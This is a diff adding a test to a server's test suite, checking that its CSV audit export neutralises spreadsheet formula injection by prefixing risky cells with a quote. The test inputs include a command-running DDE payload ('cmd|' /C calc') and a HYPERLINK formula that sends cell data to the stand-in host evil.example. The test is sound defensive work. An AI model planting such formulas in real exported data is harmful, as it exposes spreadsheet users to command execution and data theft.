@@ -301,6 +301,50 @@ def test_csv_holds_every_session_whatever_the_count(server):
     assert len(list(csv.reader(io.StringIO(r.text)))) == 4
 
 
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(server):
+    """CSV injection (OWASP): a text cell starting with = + - @, a tab or a carriage return gets a
+    leading ' and quotes; numbers are written as they are."""
+    admin = server.login()
+    expected = {}
+    for i, first in enumerate(FORMULA_STARTS):
+        user_name = f"{first}cmd|' /C calc'!A{i}"
+        server_name = f'{first}HYPERLINK("http://evil.example/?x="&A1,"ok{i}")'
+        organization = f"{first}{i}+{i}"  # looks like a number, is text
+        user = admin.create("user", name=user_name, role="user", password="user-password",
+                            organization=organization)
+        srv = admin.create("server", name=server_name, address=f"{first}10.0.0.{i}")
+        sid = admin.create("session", protocol="ssh", started_at=f"2030-01-01T00:00:0{i}Z",
+                           finished_at=f"2030-01-01T00:01:0{i}Z", user_id=user, server_id=srv,
+                           source_port=40000 + i)
+        expected[sid] = ["'" + user_name, "'" + organization, "'" + server_name,
+                         f"'{first}10.0.0.{i}", str(40000 + i), "60"]
+    r = admin.get("/api/audit/sessions",
+                  params={"format": "csv", "sort": "start_time",
+                          "fields": "user.name,user.organization,server.name,server.address,"
+                                    "client.port,duration"})
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.text, newline="")))
+    assert rows[0] == ["key", "user.name", "user.organization", "server.name", "server.address",
+                       "client.port", "duration"]
+    assert {row[0]: row[1:] for row in rows[1:]} == expected
+    # On the wire every neutralised cell is quoted, so that the ' is part of the text, and no
+    # cell of a row begins with one of the characters.
+    for line in r.content.decode().split("\r\n")[1:-1]:
+        assert ",\"'" in line
+        for first in FORMULA_STARTS:
+            assert "," + first not in line, repr(line)
+    # Ordinary cells stay as they were: unquoted, without a prefix.
+    plain = admin.create("user", name="root", role="user", password="user-password")
+    sid = admin.create("session", protocol="ssh", started_at="2031-01-01T00:00:00Z",
+                       user_id=plain, source_port=22)
+    r = admin.get("/api/audit/sessions", params={"format": "csv", "fields": "user.name,client.port",
+                                                 "q": "user.name:root"})
+    assert r.text == f"key,user.name,client.port\r\n{sid},root,22\r\n"
+
+
 def test_roles(shared_server, data):
     admin = data["admin"]
     operator = shared_server.add_user(admin, "auditor", "operator")
